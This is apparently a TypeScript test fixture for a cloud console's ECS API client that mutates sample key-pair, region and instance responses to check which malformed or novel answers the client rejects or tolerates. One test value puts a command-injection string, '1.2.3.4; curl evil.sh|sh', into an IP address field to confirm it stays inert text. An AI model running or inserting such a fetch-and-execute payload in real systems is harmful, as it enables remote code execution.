import type { RequestOf, ResponseOf, WireResponseOf } from '../../contract/action';
import { actions, type ActionName, type Actions } from '../../contract/actions';
import { connectTo } from './backend';
import { call } from './call';

/*
 * Answers as the API's documents have them, and what a server of tomorrow, or something in between,
 * may make of them.
 */

type Exchange<A extends ActionName> = {
  request: RequestOf<Actions[A]>;
  response: WireResponseOf<Actions[A]>;
};

const keyPair = {
  KeyPairName: 'web',
  KeyPairFingerPrint: 'c284b4f9772bfe8d4cf7d7f1781a1ef0',
  CreationTime: '2018-11-27T08:33Z',
  ResourceGroupId: '',
  Tags: { Tag: [{ TagKey: 'team', TagValue: 'web' }] },
};
const instance = {
  InstanceId: 'i-1',
  InstanceName: 'shop',
  Status: 'Running' as const,
  OSType: 'linux' as const,
  OSName: 'Ubuntu',
  OSNameEn: 'Ubuntu',
  KeyPairName: '',
  IoOptimized: true,
  InstanceType: 'ecs.g5.large',
  RegionId: 'cn-hangzhou',
  ZoneId: 'cn-hangzhou-b',
  PublicIpAddress: { IpAddress: [] },
  EipAddress: { IpAddress: '' },
  VpcAttributes: { VpcId: 'vpc-1', PrivateIpAddress: { IpAddress: ['10.0.0.1'] } },
  CreationTime: '2018-11-27T08:33Z',
  ResourceGroupId: '',
  Tags: { Tag: [] },
  OperationLocks: { LockReason: [] },
};
const region = {
  RegionId: 'cn-hangzhou',
  RegionEndpoint: 'ecs.cn-hangzhou.aliyuncs.com',
  LocalName: 'China (Hangzhou)',
  Status: 'available' as const,
};
const result = { InstanceId: 'i-1', Success: true, Code: '200', Message: 'successful' };

const exchanges = {
  DescribeRegions: {
    request: {},
    response: { RequestId: 'R', Regions: { Region: [region] } },
  } satisfies Exchange<'DescribeRegions'>,
  DescribeKeyPairs: {
    request: { RegionId: 'cn-hangzhou', PageNumber: 1, PageSize: 50 },
    response: {
      RequestId: 'R',
      PageNumber: 1,
      PageSize: 50,
      TotalCount: 2,
      KeyPairs: { KeyPair: [keyPair, { ...keyPair, KeyPairName: 'ops' }] },
    },
  } satisfies Exchange<'DescribeKeyPairs'>,
  ImportKeyPair: {
    request: { RegionId: 'cn-hangzhou', KeyPairName: 'web', PublicKeyBody: 'ssh-rsa AAAA' },
    response: {
      RequestId: 'R',
      KeyPairName: 'web',
      KeyPairFingerPrint: keyPair.KeyPairFingerPrint,
    },
  } satisfies Exchange<'ImportKeyPair'>,
  DeleteKeyPairs: {
    request: { RegionId: 'cn-hangzhou', KeyPairNames: ['web'] },
    response: { RequestId: 'R' },
  } satisfies Exchange<'DeleteKeyPairs'>,
  AttachKeyPair: {
    request: { RegionId: 'cn-hangzhou', KeyPairName: 'web', InstanceIds: ['i-1', 'i-2'] },
    response: {
      RequestId: 'R',
      KeyPairName: 'web',
      TotalCount: 2,
      FailCount: 0,
      Results: { Result: [result, { ...result, InstanceId: 'i-2' }] },
    },
  } satisfies Exchange<'AttachKeyPair'>,
  DescribeInstances: {
    request: { RegionId: 'cn-hangzhou', MaxResults: 100 },
    response: {
      RequestId: 'R',
      TotalCount: 1,
      PageNumber: 1,
      PageSize: 100,
      NextToken: '',
      Instances: { Instance: [instance] },
    },
  } satisfies Exchange<'DescribeInstances'>,
};
type TriedAction = keyof typeof exchanges;

/**
 * One way to differ: the answer with `value` at `path`, or without what is there; with an empty
 * path, `value` in its place.
 */
export type Difference = readonly [
  action: TriedAction,
  what: string,
  path: string,
  value?: unknown,
];

const pairs = 'KeyPairs.KeyPair';
const instances = 'Instances.Instance';
const publicAddressPath = `${instances}.0.PublicIpAddress.IpAddress`;
const fingerprintPath = `${pairs}.0.KeyPairFingerPrint`;

/** A full first page of a list that is said to have that many rows. */
function countedAs(total: number): WireResponseOf<Actions['DescribeKeyPairs']> {
  const rows = Array.from({ length: 50 }, (_, at) => ({ ...keyPair, KeyPairName: `web-${at}` }));
  const { response } = exchanges.DescribeKeyPairs;
  return { ...response, TotalCount: total, KeyPairs: { KeyPair: rows } };
}

export const drifts: readonly Difference[] = [
  ['DescribeKeyPairs', 'no list', 'KeyPairs'],
  ['DescribeKeyPairs', 'a list of nothing', pairs, null],
  ['DescribeKeyPairs', 'a list that is an object', pairs, {}],
  ['DescribeKeyPairs', 'an empty list with a count', pairs, []],
  ['DescribeKeyPairs', 'a row of nothing', `${pairs}.0`, null],
  ['DescribeKeyPairs', 'a key pair twice', `${pairs}.1`, keyPair],
  ['DescribeKeyPairs', 'no name', `${pairs}.0.KeyPairName`],
  ['DescribeKeyPairs', 'an empty name', `${pairs}.0.KeyPairName`, ''],
  ['DescribeKeyPairs', 'a blank name', `${pairs}.0.KeyPairName`, ' '],
  ['DescribeKeyPairs', 'a number as name', `${pairs}.0.KeyPairName`, 7],
  ['DescribeKeyPairs', 'half of a surrogate pair in a name', `${pairs}.0.KeyPairName`, 'x\ud800y'],
  [
    'DescribeKeyPairs',
    'a tag key twice',
    `${pairs}.0.Tags.Tag.1`,
    { TagKey: 'team', TagValue: '' },
  ],
  ['DescribeKeyPairs', 'a negative count', 'TotalCount', -1],
  ['DescribeKeyPairs', 'a broken count', 'TotalCount', 2.5],
  ['DescribeKeyPairs', 'a count below the rows', 'TotalCount', 1],
  ['DescribeKeyPairs', 'a count above the rows', 'TotalCount', 3],
  ['DescribeKeyPairs', 'a count of a billion', '', countedAs(1e9)],
  ['DescribeKeyPairs', 'another page', 'PageNumber', 2],
  ['DescribeKeyPairs', 'another page size', 'PageSize', 10],
  ['DescribeRegions', 'no list', 'Regions.Region'],
  ['DescribeRegions', 'no region at all', 'Regions.Region', []],
  ['DescribeRegions', 'a region twice', 'Regions.Region.1', region],
  ['DescribeRegions', 'half of a surrogate pair in an id', 'Regions.Region.0.RegionId', '\udc00'],
  ['DescribeInstances', 'no list', 'Instances'],
  ['DescribeInstances', 'an instance twice', `${instances}.1`, instance],
  ['DescribeInstances', 'another region', `${instances}.0.RegionId`, 'us-east-1'],
  ['DescribeInstances', 'an unknown status', `${instances}.0.Status`, 'Melted'],
  ['ImportKeyPair', 'another key pair', 'KeyPairName', 'ops'],
  ['ImportKeyPair', 'no fingerprint', 'KeyPairFingerPrint'],
  ['DeleteKeyPairs', 'no request id', 'RequestId'],
  ['AttachKeyPair', 'no results', 'Results'],
  ['AttachKeyPair', 'another key pair', 'KeyPairName', 'ops'],
  ['AttachKeyPair', 'an instance nobody asked for', 'Results.Result.0.InstanceId', 'i-3'],
  ['AttachKeyPair', 'an instance twice', 'Results.Result.1.InstanceId', 'i-1'],
  ['AttachKeyPair', 'a count of other instances', 'TotalCount', 3],
  ['AttachKeyPair', 'a failure that it does not list', 'FailCount', 1],
  ['AttachKeyPair', 'a failure that it does not count', 'Results.Result.0.Success', false],
];

/** What is new, or not there because nothing is known, and no reason to refuse. */
export const harmless: readonly Difference[] = [
  ['DescribeKeyPairs', 'a time of another form', `${pairs}.0.CreationTime`, '2018-11-27'],
  ['DescribeKeyPairs', 'a fingerprint that is no MD5', fingerprintPath, 'SHA256:AAAA'],
  ['DescribeKeyPairs', 'a new field', 'NewField', { any: 'thing' }],
  ['DescribeKeyPairs', 'a new field of a row', `${pairs}.0.KeyPairType`, 'rsa'],
  ['DescribeKeyPairs', 'no resource group', `${pairs}.0.ResourceGroupId`],
  ['DescribeRegions', 'no status', 'Regions.Region.0.Status'],
  ['DescribeInstances', 'a new field of a row', `${instances}.0.Cpu`, 4],
  ['DescribeInstances', 'words as an address', publicAddressPath, ['1.2.3.4; curl evil.sh|sh']],
  ['AttachKeyPair', 'an instance left out', 'Results.Result', [result]],
  ['DescribeKeyPairs', 'no fingerprint', fingerprintPath],
  ['DescribeKeyPairs', 'a number as time', `${pairs}.0.CreationTime`, 1_543_307_580],
  ['DescribeKeyPairs', 'no tags', `${pairs}.0.Tags`],
  ['DescribeKeyPairs', 'a tag without a value', `${pairs}.0.Tags.Tag.0.TagValue`],
  ['DescribeKeyPairs', 'a list as public key', `${pairs}.0.PublicKey`, ['ssh-rsa AAAA']],
  ['DescribeKeyPairs', 'text as count', 'TotalCount', '2'],
  ['DescribeKeyPairs', 'no request id', 'RequestId'],
  ['DescribeRegions', 'no name', 'Regions.Region.0.LocalName'],
  ['DescribeRegions', 'a blank name', 'Regions.Region.0.LocalName', ' '],
  ['DescribeInstances', 'text as truth', `${instances}.0.IoOptimized`, 'true'],
  ['DescribeInstances', 'a list of nothing', publicAddressPath, null],
  ['DescribeInstances', 'no token', 'NextToken'],
  ['AttachKeyPair', 'text as truth', 'Results.Result.0.Success', 'true'],
  ['AttachKeyPair', 'no key pair', 'KeyPairName'],
  ['AttachKeyPair', 'text as counts', 'FailCount', '0'],
];

/** What may come instead of any answer at all. */
export const notAnswers: readonly (readonly [what: string, body: string, status: number])[] = [
  ['nothing', '', 200],
  ['null', 'null', 200],
  ['a list', '[]', 200],
  ['a text', '"ok"', 200],
  ['half of an answer', '{"RequestId":"R","KeyPairs":{"Key', 200],
  ['a page', '<!doctype html><title>Sign in</title>', 200],
  [
    'a refusal that is told as a success',
    '{"Code":"Forbidden","Message":"No.","RequestId":"R"}',
    200,
  ],
  ['a page of a gateway', '<html><h1>502 Bad Gateway</h1></html>', 502],
  ['an error of another API', '{"error":{"code":404}}', 404],
  ['a refusal without a code', '{"Code":null,"Message":"No."}', 400],
];

/** A name for a test, or a place in a table. */
export function titleOf([action, what]: Difference): string {
  return `${action} with ${what}`;
}

/** Asks for what the answer with the difference is an answer to. */
export function readDrifted([action, , path, value]: Difference): Promise<unknown> {
  const { response } = exchanges[action];
  return read(
    action,
    JSON.stringify(withDifference(response, path === '' ? [] : path.split('.'), value)),
    200,
  );
}

/** The fingerprint that the console goes by when ECS lists this one. */
export async function fingerprintReadFrom(listed: string): Promise<string | undefined> {
  const answer = await readDrifted(['DescribeKeyPairs', '', fingerprintPath, listed]);
  return (answer as ResponseOf<Actions['DescribeKeyPairs']>).KeyPairs.KeyPair[0]
    ?.KeyPairFingerPrint;
}

/** The addresses that the console goes by when ECS lists this one, as each kind of address. */
export async function addressesReadFrom(listed: string) {
  const answer = await readDrifted([
    'DescribeInstances',
    '',
    `${instances}.0`,
    {
      ...instance,
      PublicIpAddress: { IpAddress: [listed] },
      EipAddress: { IpAddress: listed },
      VpcAttributes: { VpcId: 'vpc-1', PrivateIpAddress: { IpAddress: [listed] } },
    },
  ]);
  return (answer as ResponseOf<Actions['DescribeInstances']>).Instances.Instance.flatMap((row) => [
    ...row.PublicIpAddress.IpAddress,
    row.EipAddress.IpAddress,
    ...row.VpcAttributes.PrivateIpAddress.IpAddress,
  ]);
}

export function readInstead(body: string, status: number): Promise<unknown> {
  return read('DescribeKeyPairs', body, status);
}

function read(action: TriedAction, body: string, status: number): Promise<unknown> {
  connectTo({ send: async () => new Response(body, { status }) });
  return call(actions[action], exchanges[action].request, { timeout: 1000 });
}

function withDifference(value: unknown, [key, ...deeper]: string[], change: unknown): unknown {
  if (key === undefined) return change;
  const copy: object = Array.isArray(value) ? [...value] : { ...Object(value) };
  Reflect.set(copy, key, withDifference(Reflect.get(copy, key), deeper, change));
  return copy;
}
